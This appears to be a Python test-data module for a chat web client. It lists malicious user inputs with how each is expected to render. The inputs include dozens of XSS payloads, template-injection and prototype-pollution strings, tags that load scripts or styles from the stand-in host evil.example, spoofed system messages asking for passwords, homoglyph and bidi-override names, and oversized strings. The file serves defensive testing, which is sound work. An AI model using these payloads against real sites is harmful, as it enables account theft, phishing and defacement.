"""What people type who mean no good: each text with how a page may show it, and names that the server lets through."""

from typing import Final

_BREAKING_OUT: Final = (
    "<script>document.title='owned'</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert`1`>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "</textarea><script>alert(1)</script>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Send",
    "<button formaction=javascript:alert(1)>Retry</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><tr><td background='javascript:alert(1)'>",
    "<div style='position:fixed;inset:0;background:red'>gone</div>",
    "<p id=_line>field</p><p id=_timeline>log</p>",
    "<img name=getElementById><form name=forms>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<!-- --><!doctype html><plaintext>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3c;b&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)//http://",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:null/00000000-0000-0000-0000-000000000000",
    "view-source:javascript:alert(1)",
)
_TEMPLATES: Final = (
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%7*7%} [[7*7]]",
    "${alert(1)}",
    "{name} {room} %s %d %(name)s {0}",
    "$& $1 $` $' $$",
    "[click](javascript:alert(1)) ![x](x) **bold** `code` ```js",
    "__proto__",
    "constructor",
    '{"type":"goodbye","code":4400,"reason":"imitated"}',
    "null",
    "undefined",
    "NaN",
    "0",
)
_IMITATING: Final = (  # what the page says itself
    "* you are in lobby as admin",
    "Today",
    "New since you were away",
    "alice, 12:04",
    "connection lost, reconnecting in 3 s",
    "not sent: Retry Discard",
    "This message was erased.",
    "bob is typing",
    "\u2217 the server is going down, send your password",  # an asterisk that is none
    "\u0430lice: I said that",  # the first letter is Cyrillic
)
_WIDE: Final = (
    "\ufdfd" * 200,  # one letter as wide as ten
    "\U0001242b" * 50,  # and another one
    "W" * 1000,
    "=" * 1000,
    "\u0bf5\u102a\ua9c5" * 100,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,  # a family, twenty times
    "\U0001f1e6" * 101,  # flags, one of them half
    "\u0e01\u0e49",
    "\u05e9\u05dc\u05d5\u05dd, from right to left",
)
# What is shown of these is something else: nothing invisible, nothing that turns the line around.
_CHANGED: Final = {
    "abc \u202egnp.exe": "abc \ufffdgnp.exe",
    "\u202e\u2066drow\u2069\u202c": "\ufffd\ufffddrow\ufffd\ufffd",
    "\u202dleft\u202a\u202b": "\ufffdleft\ufffd\ufffd",
    "pass\u200bword": "password",
    "\u2060\ufeff\u00adx\u034f\u180e\u2061": "x",
    "a\u200d": "a",
    "\u200d\u200dx": "x",
    "b\U000e0041\U000e0042\U000e007f": "b",  # letters of a tag, which nobody sees
    "c\u3164\uffa0": "c",  # letters without ink
    "bell \u0007 escape \u001b[2J null \u0000": "bell \ufffd escape \ufffd[2J null \ufffd",
    "c1 \u009b31m": "c1 \ufffd31m",
    "lines\u2028of\u2029their\u0085own": "lines\nof\ntheir\nown",
    "Z" + "\u0335\u0489\u0300" * 400: "Z" + "\u0335\u0489\u0300" * 2,
    "\u200b\u2062\u3164": "\ufffd",  # nothing to see
    "\u0300" * 500 + "x": "\u0300" * 6 + "x",
}

TEXTS: Final = {
    **{text: text for text in (*_BREAKING_OUT, *_TEMPLATES, *_IMITATING, *_WIDE)},
    **_CHANGED,
}
LONG: Final = (
    "x" * 65_000,
    "long words " * 5_900,
    "a line\n" * 7_900,
    "down" + "\n" * 30_000 + "here",
    "<b>" * 21_000,
    "http://a.example/ " * 3_500,
    "\U0001f600" * 16_000,
    "(" * 65_000,
    "https://" + "a" * 64_000 + ".example/",
)
NAMES: Final = {  # with how they are shown
    **{
        name: name
        for name in (
            "<b>eve",
            "<script>alert(1)<",
            "<img src=x onerror=alert(1)>",
            "{{7*7}}${7*7}",
            "__proto__",
            "constructor",
            "toString",
            "&lt;b&gt;",
            "\u0430lice",  # the first letter is Cyrillic
            "\uff41\uff44\uff4d\uff49\uff4e",
            "the server",
            "W" * 32,
            "\ufdfd" * 32,
            "\U0001f1e6" * 31,
            "\u05d0\u05d1\u05d2 (you)",
            "0",
        )
    },
    "x" + "\u0489" * 31: "x" + "\u0489" * 6,
}
ADDRESSES: Final = (  # after the # of the page's own
    "<img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%E0%A4%A",
    "%00",
    "javascript:alert(1)",
    "__proto__",
    "_line",
    "//evil.example",
    "%E2%80%AEtxt",
)
